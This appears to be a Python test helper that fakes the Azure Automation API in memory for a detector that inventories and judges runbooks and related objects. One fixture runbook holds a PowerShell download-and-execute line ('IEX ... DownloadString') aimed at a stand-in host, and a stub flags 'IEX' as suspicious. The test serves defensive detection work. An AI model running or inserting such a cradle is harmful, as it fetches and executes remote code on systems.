"""The Automation API in memory, below the SDK's own client: what it holds, what it was asked, and how it fails.

Bodies have the shapes of Microsoft's published examples of api-version 2024-10-23: what a list leaves out there is left
out here.
"""

import asyncio
import copy
import dataclasses
import json
from collections.abc import AsyncIterator, Callable, Mapping
from datetime import datetime
from typing import Any, Self
from urllib.parse import parse_qs, unquote, urlsplit

from azure.core.pipeline.transport import AsyncHttpTransport
from azure.core.rest import AsyncHttpResponse, HttpRequest
from azure.core.rest._http_response_impl_async import AsyncHttpResponseImpl
from azure.core.utils import case_insensitive_dict
from azure.mgmt.automation.aio import AutomationClient
from azure.mgmt.automation.models import AutomationAccount

from detectors.automation.policies import BoundedRetry, SameHostReads
from detectors.inventory.reading import ContentJudgement, Reading, read_account
from detectors.inventory.snapshot import AccountReference, InventoryObject, Snapshot
from detectors.triage.masking import mask
from tests.clock import Clock
from tests.triage.automation_server import ACCOUNT, ARM_NOT_FOUND, OLD_NOT_FOUND, SUBSCRIPTION, FakeCredential

URL = "https://management.azure.com"
REFERENCE = AccountReference(
    subscription_id=SUBSCRIPTION, resource_group="rg-ops", name="aa-prod", location="westeurope"
)
EARLIER = "2026-02-01T08:00:00.123+00:00"
LATER = "2026-03-02T02:30:00+00:00"

COLLECTIONS = (
    "runbooks", "watchers", "webhooks", "schedules", "jobSchedules", "hybridRunbookWorkerGroups", "modules",
    "python2Packages", "python3Packages", "runtimeEnvironments", "sourceControls", "credentials", "certificates",
    "connections", "variables", "jobs",
)  # fmt: skip
UNSUPPORTED = {
    "error": {
        "code": "InvalidResourceType",
        "message": "The resource type could not be found in the namespace 'Microsoft.Automation' for api version "
        "'2015-10-31'.",
    }
}


@dataclasses.dataclass(frozen=True)
class Answer:
    """What to answer. ``cut`` ends the connection in the body, ``hang`` never answers."""

    body: bytes = b""
    status: int = 200
    headers: Mapping[str, str] = dataclasses.field(default_factory=dict)
    cut: bool = False
    hang: bool = False


def refusal(status: int, code: str = "Code", message: str = "Azure says no.", **headers: str) -> Answer:
    body = json.dumps({"error": {"code": code, "message": message}}).encode()
    return Answer(body, status, {name.replace("_", "-"): value for name, value in headers.items()})


HANG = Answer(hang=True)


class _Connection:
    """What azure-core closes."""

    def __init__(self) -> None:
        self.closed = False

    async def close(self) -> None:
        self.closed = True


class AutomationApi(AsyncHttpTransport[HttpRequest, AsyncHttpResponse]):
    """One account. Keys of all mappings are paths below it, such as ``runbooks/nightly/content``.

    ``answers`` go before everything else; a key that ends in ``*`` is for every path that begins so.
    """

    def __init__(self) -> None:
        self.lists: dict[str, list[dict[str, Any]]] = {name: [] for name in COLLECTIONS}
        self.singles: dict[str, dict[str, Any]] = {"": {"id": ACCOUNT, "name": "aa-prod", "location": "westeurope"}}
        self.texts: dict[str, bytes] = {}
        self.answers: dict[str, Answer | Exception] = {}
        self.requests: list[str] = []
        """Paths below the account, in order."""
        self.queries: list[dict[str, list[str]]] = []
        self.slept: list[float] = []
        self.connections: list[_Connection] = []
        self.page_size = 100
        self.suspends = False
        """Whether a request gives the event loop a turn, as one over a network does."""
        self.after: Callable[[str], None] = lambda _: None

    def asked(self, path: str) -> int:
        return self.requests.count(path)

    def forget(self) -> None:
        self.requests.clear()
        self.queries.clear()

    async def send(self, request: HttpRequest, **options: Any) -> AsyncHttpResponse:
        parts = urlsplit(request.url)
        path = unquote(parts.path)
        assert path.casefold().startswith(ACCOUNT.casefold()), path
        below = path[len(ACCOUNT) :].strip("/")
        query = parse_qs(parts.query)
        self.requests.append(below)
        self.queries.append(query)
        answer = self._answer(below, query)
        if self.suspends:
            await asyncio.sleep(0)
        if isinstance(answer, Exception):
            raise answer
        if answer.hang:
            await asyncio.Event().wait()
        connection = _Connection()
        self.connections.append(connection)

        async def chunks(**_: Any) -> AsyncIterator[bytes]:
            for start in range(0, len(answer.body), 4_096):
                yield answer.body[start : start + 4_096]
            if answer.cut:
                from azure.core.exceptions import ServiceResponseError

                raise ServiceResponseError("connection lost")

        response = AsyncHttpResponseImpl(
            request=request,
            internal_response=connection,
            status_code=answer.status,
            reason="",
            content_type="application/json",
            headers=case_insensitive_dict({"Content-Type": "application/json", **answer.headers}),
            stream_download_generator=chunks,
        )
        if not options.get("stream"):
            await response.read()
        self.after(below)
        return response

    async def sleep(self, duration: float) -> None:
        self.slept.append(duration)

    async def open(self) -> None:
        """Nothing to open."""

    async def close(self) -> None:
        """Nothing to close."""

    async def __aenter__(self) -> Self:
        return self

    async def __aexit__(self, *_: object) -> None:
        """Nothing to close."""

    def _answer(self, below: str, query: dict[str, list[str]]) -> Answer | Exception:
        for key, answer in self.answers.items():
            if below == key or (key.endswith("*") and below.startswith(key[:-1])):
                return answer
        if below in self.lists:
            start = int(query.get("$skip", ["0"])[0])
            entries = self.lists[below]
            body: dict[str, Any] = {"value": entries[start : start + self.page_size]}
            if start + self.page_size < len(entries):
                # Microsoft's own links name the port.
                skip = f"api-version=2024-10-23&$skip={start + self.page_size}"
                body["nextLink"] = f"{URL}:443{ACCOUNT}/{below}?{skip}"
            return Answer(json.dumps(body).encode())
        if below in self.singles:
            return Answer(json.dumps(self.singles[below]).encode())
        if below in self.texts:
            return Answer(self.texts[below], headers={"Content-Type": "text/powershell"})
        if below.casefold().endswith("/watcheractions"):
            return Answer(json.dumps(UNSUPPORTED).encode(), 404)
        return Answer(json.dumps(OLD_NOT_FOUND if below.endswith("content") else ARM_NOT_FOUND).encode(), 404)

    def put(self, collection: str, name: str | None, properties: dict[str, Any], **more: Any) -> dict[str, Any]:
        """Add an object to a list, or change it; returns its entry."""
        key = name if name is not None else properties.get("jobScheduleId")
        entry = copy.deepcopy({"id": f"{ACCOUNT}/{collection}/{key}", "properties": properties, **more})
        if name is not None:
            entry["name"] = name
        entries = self.lists.setdefault(collection, [])
        self.lists[collection] = [*(each for each in entries if each["id"] != entry["id"]), entry]
        return entry

    def put_runbook(
        self,
        name: str,
        published: str | bytes | None = "Get-Date",
        draft: str | bytes | None = None,
        *,
        modified: str = EARLIER,
        by: str = "admin@contoso.com",
        listed: Mapping[str, Any] | None = None,
        single: Mapping[str, Any] | None = None,
    ) -> None:
        """A runbook whose state follows from its texts; *listed* and *single* are further properties."""
        state = "New" if published is None else "Published" if draft is None else "Edit"
        properties = {
            "creationTime": EARLIER,
            "lastModifiedTime": modified,
            "logProgress": True,
            "runbookType": "PowerShell",
            "runtimeEnvironment": None,
            "state": state,
            **(listed or {}),
        }
        entry = self.put("runbooks", name, properties, location="westeurope")
        alone = {**properties, "lastModifiedBy": by, "description": "Cleans up", "parameters": {}, **(single or {})}
        self.singles[f"runbooks/{name}"] = {**entry, "properties": alone}
        for part, text in (("content", published), ("draft/content", draft)):
            self.texts.pop(f"runbooks/{name}/{part}", None)
            if text is not None:
                self.texts[f"runbooks/{name}/{part}"] = text.encode() if isinstance(text, str) else text

    def put_watcher(self, name: str, status: str = "Running", *, modified: str = EARLIER, **properties: Any) -> None:
        """A watcher; the list leaves its status empty."""
        listed = {
            "executionFrequencyInSeconds": 60,
            "scriptName": "watch-inbox",
            "scriptParameters": None,
            "description": "",
            "status": None,
            "scriptRunOn": "hybrid-ops",
            "creationTime": EARLIER,
            "lastModifiedBy": None,
            "lastModifiedTime": modified,
            **properties,
        }
        entry = self.put("watchers", name, listed)
        alone = {**listed, "scriptParameters": listed["scriptParameters"] or {}, "status": status}
        self.singles[f"watchers/{name}"] = {**entry, "properties": alone}

    def put_job(self, name: str, runbook: str = "nightly", *, created: str = LATER, **single: Any) -> None:
        """A job; the list leaves out who started it, where it ran, and its parameters."""
        listed = {
            "creationTime": created,
            "endTime": None,
            "jobId": name,
            "jobRuntimeEnvironment": {"runtimeEnvironmentName": "PowerShell-7.2"},
            "runbook": {"name": runbook},
            "startTime": created,
            "status": "Running",
        }
        entry = self.put("jobs", name, listed)
        self.singles[f"jobs/{name}"] = {
            **entry,
            "properties": {**listed, "startedBy": None, "runOn": "", "parameters": {}, **single},
        }


def client_of(api: AutomationApi, *, retries: int = 1) -> AutomationClient:
    """The SDK's client, with the policies that the detector gives it."""
    return AutomationClient(
        FakeCredential(),
        SUBSCRIPTION,
        URL,
        transport=api,
        credential_scopes=[f"{URL}/.default"],
        retry_policy=BoundedRetry(longest=0.0, retry_total=retries, retry_status=retries),
        per_retry_policies=[SameHostReads(URL)],
    )


def listed_account(**more: Any) -> AutomationAccount:
    """The account as the list of its subscription gives it."""
    return AutomationAccount({"id": ACCOUNT, "name": "aa-prod", "location": "westeurope", "properties": {}, **more})


def judge(data: bytes, runbook_type: str) -> ContentJudgement:
    """A text that evaluates a download is suspicious."""
    if b"IEX" not in data:
        return ContentJudgement()
    return ContentJudgement(
        suspicious=True, indicators=("evaluate", "download"), lines=((1, f"Evaluates a download ({runbook_type})."),)
    )


async def read(
    api: AutomationApi,
    previous: Snapshot | None = None,
    *,
    listed: AutomationAccount | None = None,
    clock: Callable[[], datetime] | None = None,
    section_timeout: float = 600.0,
    cap_bytes: int = 1_000_000,
    judge_content: Callable[[bytes, str], ContentJudgement] = judge,
    retries: int = 1,
    client: AutomationClient | None = None,
) -> Reading:
    """One reading of the account, through *client* or one of the memory's own."""
    return await read_account(
        client or client_of(api, retries=retries),
        REFERENCE,
        listed or listed_account(),
        previous,
        mask=mask,
        judge_content=judge_content,
        cap_bytes=cap_bytes,
        clock=clock or Clock(),
        section_timeout=section_timeout,
    )


def objects(snapshot: Snapshot, *kinds: str) -> dict[str, InventoryObject]:
    """The objects of *kinds*, or of all, by name."""
    return {each.name: each for each in snapshot.objects if not kinds or each.kind in kinds}


def one(snapshot: Snapshot, kind: str) -> InventoryObject:
    """The only object of that kind."""
    (found,) = objects(snapshot, kind).values()
    return found


def full_account() -> AutomationApi:
    """An account with something of every kind."""
    api = AutomationApi()
    times = {"creationTime": EARLIER, "lastModifiedTime": EARLIER}
    system = {
        "createdAt": EARLIER,
        "createdBy": "admin@contoso.com",
        "createdByType": "User",
        "lastModifiedAt": EARLIER,
        "lastModifiedBy": "admin@contoso.com",
    }
    api.put_runbook("nightly", "Get-Date")
    api.put_runbook("deploy", "Get-AzVM", "IEX (New-Object Net.WebClient).DownloadString('https://contoso.com/x')")
    api.put_runbook("new-one", None, "Get-Process")
    api.put_watcher("inbox")
    api.put(
        "webhooks",
        "from-pipeline",
        {
            "isEnabled": True,
            "expiryTime": "2036-01-01T00:00:00.7002872+00:00",
            "runbook": {"name": "deploy"},
            "lastInvokedTime": "2026-03-02T02:29:00+00:00",
            "runOn": "hybrid-ops",
            "parameters": {"Target": "vm-1", "Action": "stop"},
            "uri": None,
            "lastModifiedBy": "",
            **times,
        },
    )
    api.put(
        "schedules",
        "every-night",
        {
            "description": "At night",
            "expiryTime": "9999-12-31T23:59:00+00:00",
            "expiryTimeOffsetMinutes": 0,
            "frequency": "Week",
            "interval": 1,
            "isEnabled": True,
            "nextRun": LATER,
            "startTime": EARLIER,
            "timeZone": "UTC",
            "advancedSchedule": {"weekDays": ["Monday", "Friday"], "monthDays": None, "monthlyOccurrences": []},
            **times,
        },
    )
    api.put(
        "jobSchedules",
        None,
        {
            "jobScheduleId": "2F4D8F35-ECD5-44EE-A019-2382FEC58FB7",
            "parameters": {"Zone": "west"},
            "runOn": None,
            "runbook": {"name": "nightly"},
            "schedule": {"name": "every-night"},
        },
    )
    api.put(
        "hybridRunbookWorkerGroups",
        "hybrid-ops",
        {"credential": {"name": "run-as"}, "groupType": "User"},
        systemData=system,
    )
    api.put(
        "hybridRunbookWorkerGroups", "vm-9_c010ad12", {"credential": None, "groupType": "System"}, systemData=system
    )
    worker = "c010ad12-ef14-4a2a-aa9e-ef22c4745ddd"
    api.put(
        "hybridRunbookWorkerGroups/hybrid-ops/hybridRunbookWorkers",
        worker,
        {
            "ip": "203.0.113.10",
            "lastSeenDateTime": LATER,
            "registeredDateTime": EARLIER,
            "vmResourceId": f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-ops/providers/Microsoft.Compute/"
            "virtualMachines/vm-1",
            "workerName": "vm-1",
            "workerType": "HybridV2",
        },
        systemData=system,
    )
    module = {
        "activityCount": 12,
        "isGlobal": False,
        "provisioningState": "Succeeded",
        "sizeInBytes": 1024,
        "version": "1.2.3",
        **times,
    }
    api.put("modules", "Contoso.Tools", module, etag='"1"')
    api.put("python2Packages", "requests", {**module, "version": None}, etag='"1"')
    api.put("python3Packages", "requests", module, etag='"1"')
    api.put(
        "runtimeEnvironments",
        "ps-ops",
        {
            "runtime": {"language": "PowerShell", "version": "7.2"},
            "defaultPackages": {"Az": "8.3.0"},
            "description": "For operations",
        },
        systemData={"createdAt": EARLIER, "lastModifiedAt": EARLIER},
    )
    api.put(
        "runtimeEnvironments/ps-ops/packages",
        "Az.Accounts",
        {"default": False, "provisioningState": "Succeeded", "sizeInBytes": 2048, "version": "2.0.0"},
        systemData={"createdAt": EARLIER, "lastModifiedAt": EARLIER},
    )
    api.put(
        "sourceControls",
        "main-repository",
        {
            "autoSync": True,
            "branch": "main",
            "folderPath": "/runbooks",
            "publishRunbook": True,
            "repoUrl": "https://github.com/contoso/runbooks",
            "sourceType": "GitHub",
            **times,
        },
    )
    api.put("credentials", "run-as", {"userName": "svc-ops", "description": "", **times})
    api.put("certificates", "signing", {"thumbprint": "ABCDEF", "isExportable": True, "expiryTime": LATER, **times})
    api.put(
        "connections",
        "AzureRunAsConnection",
        {"connectionType": {"name": "Azure"}, "fieldDefinitionValues": {"SubscriptionID": SUBSCRIPTION}, **times},
    )
    api.put("variables", "region", {"isEncrypted": False, "value": '"westeurope"', **times})
    api.put_job("45203a94-a8cb-47c3-8ce4-4dcc3a5f7d23", "deploy", runOn="hybrid-ops", parameters={"Target": "vm-1"})
    return api


FIRST_LISTS = [
    "runbooks",
    "watchers",
    "webhooks",
    "schedules",
    "jobSchedules",
    "hybridRunbookWorkerGroups",
    "hybridRunbookWorkerGroups/hybrid-ops/hybridRunbookWorkers",
    "modules",
    "python2Packages",
    "python3Packages",
    "runtimeEnvironments",
    "runtimeEnvironments/ps-ops/packages",
    "sourceControls",
    "credentials",
    "certificates",
    "connections",
    "variables",
    "jobs",
]
"""What is listed of :func:`full_account`, in order."""
